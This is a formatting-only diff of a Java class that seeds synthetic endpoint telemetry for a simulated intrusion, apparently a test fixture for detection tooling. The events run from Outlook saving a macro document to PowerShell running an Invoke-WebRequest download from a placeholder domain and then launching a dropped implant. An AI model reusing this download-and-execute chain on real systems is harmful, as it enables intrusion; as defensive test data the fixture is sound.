@@ -27,9 +27,16 @@ public final class PlantedIntrusion {
   public PlantedIntrusion(Instant implantStart) {
     this.start = implantStart.minusSeconds(72);
     process(-900, "101", "1", "winlogon.exe", "winlogon.exe", "00".repeat(31) + "01");
-    process(-800, "102", "101", "explorer.exe", "C:\\WINDOWS\\Explorer.EXE", "00".repeat(31) + "02");
-    process(0, "103", "102", "OUTLOOK.EXE", "\"C:\\Office16\\OUTLOOK.EXE\"", "00".repeat(31) + "03");
-    file(40, "103", "OoxmlFileWritten", "\\Device\\HarddiskVolume3\\Users\\ann\\Downloads\\Rechnung_4471.docm", "");
+    process(
+        -800, "102", "101", "explorer.exe", "C:\\WINDOWS\\Explorer.EXE", "00".repeat(31) + "02");
+    process(
+        0, "103", "102", "OUTLOOK.EXE", "\"C:\\Office16\\OUTLOOK.EXE\"", "00".repeat(31) + "03");
+    file(
+        40,
+        "103",
+        "OoxmlFileWritten",
+        "\\Device\\HarddiskVolume3\\Users\\ann\\Downloads\\Rechnung_4471.docm",
+        "");
     process(
         44,
         "104",
@@ -48,12 +55,19 @@ public final class PlantedIntrusion {
         62,
         POWERSHELL,
         "ScriptControlScanInfo",
-        Map.of("ScriptContent", "$u = 'https://" + DOMAIN + "/r/4471'\r\nInvoke-WebRequest -Uri $u"));
+        Map.of(
+            "ScriptContent", "$u = 'https://" + DOMAIN + "/r/4471'\r\nInvoke-WebRequest -Uri $u"));
     dns(63, POWERSHELL);
     connect(64, POWERSHELL, ADDRESS, "443");
     file(69, POWERSHELL, "NewExecutableWritten", PATH, "");
     file(70, POWERSHELL, "PeFileWritten", PATH, HASH);
-    process(72, IMPLANT, POWERSHELL, "lapwingsync.exe", "\"C:\\Users\\ann\\AppData\\Roaming\\Lapwing\\lapwingsync.exe\" --first", HASH);
+    process(
+        72,
+        IMPLANT,
+        POWERSHELL,
+        "lapwingsync.exe",
+        "\"C:\\Users\\ann\\AppData\\Roaming\\Lapwing\\lapwingsync.exe\" --first",
+        HASH);
     event(
         73,
         IMPLANT,
@@ -90,9 +104,7 @@ public final class PlantedIntrusion {
   /// What was there at some time.
   public List<EventRow> until(Instant time) {
     return rows.stream()
-        .filter(
-            row ->
-                row.number(Columns.TIMESTAMP) < FactWorld.micros(time))
+        .filter(row -> row.number(Columns.TIMESTAMP) < FactWorld.micros(time))
         .toList();
   }
 
